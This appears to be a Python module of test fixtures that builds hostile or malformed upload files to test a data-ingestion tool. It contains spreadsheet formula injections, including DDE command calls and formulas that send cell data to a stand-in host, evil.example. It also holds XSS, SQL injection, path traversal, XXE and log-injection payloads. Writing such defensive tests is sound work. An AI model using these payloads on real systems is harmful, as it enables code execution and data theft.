"""Hostile text files whose cells are the trouble, or that are no text at all: a function a file, named as it is."""

import bz2
import gzip
import io
import lzma
import zipfile
import zlib
from pathlib import Path
from tempfile import TemporaryDirectory

import duckdb

from hostile.texts import HEADER, LOG, named, row, table

MARKERS = ("MARKER-PERSON", "marker-address@example.org", "+000 MARKER-PHONE", "MARKER-PASSPORT", "MARKER-HEALTH")
"""What stands where a person's data would: none of it may be found in a store."""


def dated(*days: str) -> bytes:
    """A log of days written like this, each of an organisation of its own."""
    return table(row(date=day, organisation=f"Org {number}") for number, day in enumerate(days)).encode()


def counted(*counts: str) -> bytes:
    """A log of head counts written like this."""
    return table(row(participants=count, organisation=f"Org {number}") for number, count in enumerate(counts)).encode()


# ---- what the cells say ----


FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "%0A=1+1",
    "'=1+1",
    ";=1+1",
    "|=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
)


def c070_formulas() -> bytes:
    return table(row(event=each, organisation=each) for each in FORMULAS).encode()


def c071_formula_headers() -> bytes:
    return table([(*each, "1") for each in LOG], header=(*HEADER, "=cmd|' /C calc'!A0")).encode()


def c072_emoji() -> bytes:
    return named("👩🏽‍👩🏽‍👧🏽 Familias 🇸🇳 🧑‍🤝‍🧑")


def c073_homoglyph() -> bytes:
    return named("Саritаs Intеrnаtionаlis")  # some of these letters are Cyrillic


def c074_right_to_left_override() -> bytes:
    return named("Org \u202egnp.exe", "\u2067Org\u2069")


def c075_zero_width() -> bytes:
    return named("Or\u200bg A", "Org\u00ad A", "\ufeffOrg A")


def c076_zalgo() -> bytes:
    return named("O" + "\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 40)


def c077_html_xss() -> bytes:
    return named("<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>")


def c078_markdown() -> bytes:
    return named("[x](javascript:alert(1)) ![x](http://evil.example/x.png) :red[x] $\\LaTeX$ `x`", "# Org", "**Org**")


def c079_plotly_html() -> bytes:
    return named("<b>bold</b><a href='javascript:alert(1)'>x</a><br>%{customdata[0]}")


def c080_sql() -> bytes:
    return named("'); DROP TABLE participation;-- \" OR 1=1 -- \\")


def c081_format_strings() -> bytes:
    return named("{0} {organisation} {} %s %(x)s ${x} $1 {{x}}", "%n%n%n%x", "../../etc/passwd", "*.csv")


def c082_log_injection() -> bytes:
    return named("Org\n2026-11-23 00:00:00 INFO user=admin action=grant")


def c085_typst_latex() -> bytes:
    return named('#import "/etc/passwd" $x$ \\input{/etc/passwd} #eval("1") *b* _i_')


def c086_json_inj() -> bytes:
    return named('"},{"admin":true,"x":"')


def c087_long_name() -> bytes:
    return named("N" * 10_000)


def c088_name_too_long() -> bytes:
    return named("N" * 10_001)


# ---- dates ----


def c090_dates_ambiguous() -> bytes:
    return dated("03/04/2024", "05/06/2024", "01/02/2024")


def c091_dates_two_orders() -> bytes:
    return dated("13/04/2024", "04/13/2024", "01/02/2024")


def c092_dates_formats() -> bytes:
    return dated(
        *("2024-03-04", "4 mars 2024", "4. März 2024", "4 de marzo de 2024", "March 4, 2024", "04-Mar-24", "20240304"),
        *("2024/3/4", "04.03.2024", "2024-W10-1", "2024-03-04T23:30:00-11:00", "٤ مارس ٢٠٢٤", "2024年3月4日"),
    )


def c093_dates_serial() -> bytes:
    return dated("45355", "45355.5", "60", "61", "1", "0", "-1", "2958466")


def c094_dates_impossible() -> bytes:
    return dated("2024-02-30", "31/04/2024", "2023-02-29", "0000-00-00", "9999-99-99", "1066-10-14", "2999-01-01")


def c095_dates_two_digit() -> bytes:
    return dated("04/03/24", "04/03/99", "04/03/68", "04/03/69")


def c096_dates_ranges() -> bytes:
    return dated("4-6 March 2024", "Q1 2024", "March 2024", "2024", "2023/24", "TBC", "n/a")


def c097_dates_other_calendars() -> bytes:
    return dated("1445-08-23", "2567-03-04", "1402/12/14", "民國113年3月4日", "令和6年3月4日")


# ---- counts, countries, copies ----


def c100_numbers_locale() -> bytes:
    return counted(
        *("1,234", "1.234", "1 234", "1\u00a0234", "1\u202f234", "1'234", "1.234,5", "1,234.5", "١٢٣", "１２")
    )


def c101_numbers_odd() -> bytes:
    return counted("-1", "0.5", "1e3", "0x10", "4_000", "∞", "10-12", "~20", "about 20", "9" * 30, "½", "12 people")


def c102_null_tokens() -> bytes:
    return counted("", "NULL", "N/A", "n/a", "-", "–", "s/o", "نامعلوم", "?", "0")


def c103_country_na() -> bytes:
    countries = ("NA", "NO", "TR", "CI", "Côte d’Ivoire", "XK", "EU", "null")
    return table(row(country=each, organisation=f"Org {each}") for each in countries).encode()


def c105_duplicates() -> bytes:
    near = (*LOG[0][:4], LOG[0][4].replace("Réseau", "RÉSEAU"), *LOG[0][5:7], "12 ", LOG[0][8])
    return table([LOG[0]] * 5 + [near]).encode()


def c106_personal_data() -> bytes:
    return table([(*LOG[0], *MARKERS)], header=(*HEADER, "name", "email", "phone", "passport", "health")).encode()


def c107_address_as_name() -> bytes:
    return named(MARKERS[1], f"Org <{MARKERS[1]}>")


def c108_unknown_category() -> bytes:
    labels = ("NGO", "CSO", "Société civile", "faith based", "Gov", "", "civil_society;academia", "LGBTQI+")
    return table(row(category=each) for each in (*labels, "private-sector ")).encode()


def c109_distinct_wrong_values() -> bytes:
    wrong = (
        {name: f"{name} {number}" for name in ("date", "category", "country", "participants", "role")}
        for number in range(20_000)
    )
    return table(row(**each) for each in wrong).encode()


# ---- not what the name says ----


def c120_gzip_named_csv() -> bytes:
    return gzip.compress(table().encode(), mtime=0)


def c121_bzip2_named_csv() -> bytes:
    return bz2.compress(table().encode())


def c122_zip_named_csv() -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("log.csv", table())
    return content.getvalue()


def c123_png_named_csv() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    size = (64).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00"
    picture = zlib.compress(bytes(64 * (1 + 3 * 64)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", picture) + chunk(b"IEND", b"")


def c124_jpeg_named_csv() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)) * 8


def c125_pdf_named_csv() -> bytes:
    return b"%PDF-1.7\n" + b"1 0 obj<<>>endobj\n" * 100 + b"%%EOF"


def c126_html_named_csv() -> bytes:
    return b"<html><body><table><tr><td>date</td></tr></table><script>alert(1)</script></body></html>"


def c127_rtf_named_csv() -> bytes:
    return b"{\\rtf1\\ansi date, activity, organisation\\par 2024-03-04, Hearing, Org\\par}"


def c128_xml_named_csv() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><rows><row>&e;</row></rows>'


def c129_xz_named_csv() -> bytes:
    return lzma.compress(table().encode())


def c130_broken_parquet() -> bytes:
    return b"PAR1" + bytes(200) + b"\xff\xff\xff\x7fPAR1"


def c131_nested_json() -> bytes:
    return b'[{"date": "2024-03-04", "activity": {"title": "Hearing"}, "organisation": ["Org"]}]'


def c132_deep_json() -> bytes:
    return b"[" * 200_000


def c133_json_lines() -> bytes:
    return b'{"date": "2024-03-04", "activity": "Hearing", "network": "N", "organisation": "Org"}\n' * 3


def c134_parquet() -> bytes:
    with TemporaryDirectory() as folder:
        log, made = Path(folder) / "log.csv", Path(folder) / "log.parquet"
        log.write_bytes(table().encode())
        with duckdb.connect() as connection:
            connection.from_csv_auto(str(log)).write_parquet(str(made))
        return made.read_bytes()
